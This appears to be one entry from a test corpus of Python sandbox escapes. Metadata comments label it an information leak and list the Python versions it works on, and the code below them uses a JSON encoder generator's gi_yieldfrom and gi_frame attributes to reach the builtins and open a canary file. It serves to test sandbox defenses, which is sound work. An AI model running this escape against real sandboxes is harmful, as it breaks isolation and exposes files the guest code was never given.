# id: generator-gi-yieldfrom
# family: frames
# kind: information-leak
# invariant: C, D, E
# origin: RestrictedPython's table of inspection attributes
# technique: gi_yieldfrom hands out the generator that a trusted generator delegates to, which the guest was never given
# needs: 3.5+
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import json

chunks = json.JSONEncoder(indent=1).iterencode([[1]])
next(chunks)
inner = chunks.gi_yieldfrom
print(inner.gi_frame.f_globals["__builtins__"]["open"]("canary.txt").read())
